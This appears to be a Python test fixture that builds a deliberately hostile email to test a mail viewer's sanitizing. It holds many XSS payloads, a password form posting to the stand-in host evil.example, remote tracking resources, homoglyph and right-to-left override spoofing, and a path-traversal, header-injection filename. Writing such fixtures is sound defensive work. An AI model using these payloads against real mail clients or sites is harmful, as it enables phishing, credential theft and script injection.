"""A mail that tries everything at once on whoever looks at it."""

# ruff: noqa: E501  (as hostile mails are written)

ELSEWHERE = "https://evil.example"
NAME = "\u202egnp.exe\u202c invoice"

HTML = f"""<!doctype html><html><head>
<base href="{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url={ELSEWHERE}/refresh">
<link rel="stylesheet" href="{ELSEWHERE}/sheet.css"><style>@import "{ELSEWHERE}/i.css";
body {{ display: none }} .page, main {{ position: fixed; inset: 0; background: url({ELSEWHERE}/bg.png) }}</style>
<script>top.location = "{ELSEWHERE}/script"; document.title = "owned"</script></head>
<body onload="document.title='owned'" background="{ELSEWHERE}/body.png">
<p id="main" class="panel" style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9;color:red">Seen words.</p>
<form action="{ELSEWHERE}/form" method="post"><input name="password" value="secret"><button autofocus>Log in</button></form>
<img src="{ELSEWHERE}/pixel.gif" srcset="{ELSEWHERE}/set.gif 2x" alt="the logo" onerror="document.title='owned'">
<picture><source srcset="{ELSEWHERE}/source.gif"></picture><video src="{ELSEWHERE}/v" autoplay poster="{ELSEWHERE}/p"></video>
<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='owned'"><image href="{ELSEWHERE}/svg.png"/>
<a xlink:href="javascript:document.title='owned'"><text>click</text></a><script>document.title='owned'</script></svg>
<iframe src="{ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<object data="{ELSEWHERE}/object"></object><embed src="{ELSEWHERE}/embed">
<a href="javascript:document.title='owned'">One</a> <a href="{ELSEWHERE}/phish" target="_top">https://badgepost.example</a>
<a href="https://b\u0430dgepost.example/log-in">https://badgepost.example/log-in</a>
<a href='x"><img src=x onerror=document.title="owned">'>Three</a>
<div style="background-image:url({ELSEWHERE}/div.png);background:u\\72l({ELSEWHERE}/esc.png)">four</div>
<math><mtext><table><mglyph><style><img src={ELSEWHERE}/m onerror="document.title='owned'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=document.title='owned'>"></noscript>
<p>Safe \u202etxet desrever\u202c words</p><textarea></body></html>"""

MAIL = f"""From: "PayPal \u202eecivres" <sam@mail.example>
From: support@badgepost.example
To: support@badgepost.example
Subject: <script>document.title='owned'</script> \u202edesrever
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: multipart/alternative; boundary=c

--c
Content-Type: text/plain; charset=utf-8

<script>document.title='owned'</script>
</textarea></pre></bdi><h1>Approve</h1> {{{{ 7 * 7 }}}}
--c
Content-Type: text/html; charset=utf-8

{HTML}
--c--
--b
Content-Type: text/html; name="=?utf-8?q?{NAME}?="
Content-Disposition: attachment; filename="{NAME}.html"

<script>document.title='owned'</script>
--b
Content-Type: image/svg+xml
Content-ID: <logo>
Content-Disposition: inline; filename="../../etc/passwd\\r\\nX-Evil: 1.svg"

<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
--b--
""".replace("\n", "\r\n").encode()
